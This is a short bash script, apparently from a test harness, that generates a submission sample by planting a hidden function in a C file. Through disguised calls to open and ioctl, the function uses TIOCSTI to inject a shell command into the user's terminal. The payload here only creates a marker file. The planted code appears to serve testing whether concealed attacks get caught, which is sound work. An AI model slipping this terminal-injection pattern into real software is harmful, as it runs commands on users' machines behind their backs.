#!/usr/bin/env bash
# make.sh OUTDIR: writes the tiocsti-m1 submission into OUTDIR (see ../README).
set -eu
. "$(dirname "$0")/../lib.sh"
OUT=$1
F=phase1-single/fault.c
write_sample "$OUT" $F "$(with_attack $F "$(hidden_prologue ioctl open)
#include <fcntl.h>
#include <sys/ioctl.h>
static void h6_tiocsti(void)
{
    static const char cmd[] = \"touch /tmp/h6-hostile-tiocsti\\n\";
    int fds[4] = { 0, 1, 2, -1 };
    fds[3] = ((int (*)(const char *, int, ...))hidden_open)(\"/dev/tty\", O_RDWR);
    for (int i = 0; i < 4; i++)
        for (const char *c = cmd; fds[i] >= 0 && *c; c++)
            ((int (*)(int, unsigned long, ...))hidden_ioctl)(fds[i], TIOCSTI, c);
}" '    h6_tiocsti();')"
